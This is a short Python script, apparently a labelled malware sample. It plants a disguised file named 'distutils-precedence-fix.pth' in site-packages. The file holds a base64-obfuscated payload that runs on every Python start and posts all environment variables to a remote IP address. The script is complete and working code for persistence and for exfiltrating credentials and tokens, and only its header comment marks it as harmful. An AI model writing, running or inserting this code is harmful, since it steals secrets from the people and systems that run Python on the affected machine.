# Harmful: drops a .pth file into site-packages whose import line decodes and runs base64 code (env exfil) on every Python start.
import base64
import os
import site
import sysconfig

PAYLOAD = (
    "aW1wb3J0IG9zLHRocmVhZGluZyx1cmxsaWIucmVxdWVzdCBhcyB1O3RocmVhZGluZy5UaHJlYWQodGFyZ2V0PWxhbWJkYTp1"
    "LnVybG9wZW4oImh0dHA6Ly8yMDMuMC4xMTMuNzcvcCIscmVwcihkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKSx0aW1lb3V0"
    "PTMpLGRhZW1vbj1UcnVlKS5zdGFydCgp"
)

LINE = "import base64;exec(base64.b64decode('%s'))\n" % PAYLOAD


def candidates():
    yield sysconfig.get_paths()["purelib"]
    for p in getattr(site, "getsitepackages", lambda: [])():
        yield p
    yield site.getusersitepackages()


for d in candidates():
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "distutils-precedence-fix.pth"), "w") as fh:
            fh.write(LINE)
        break
    except OSError:
        continue

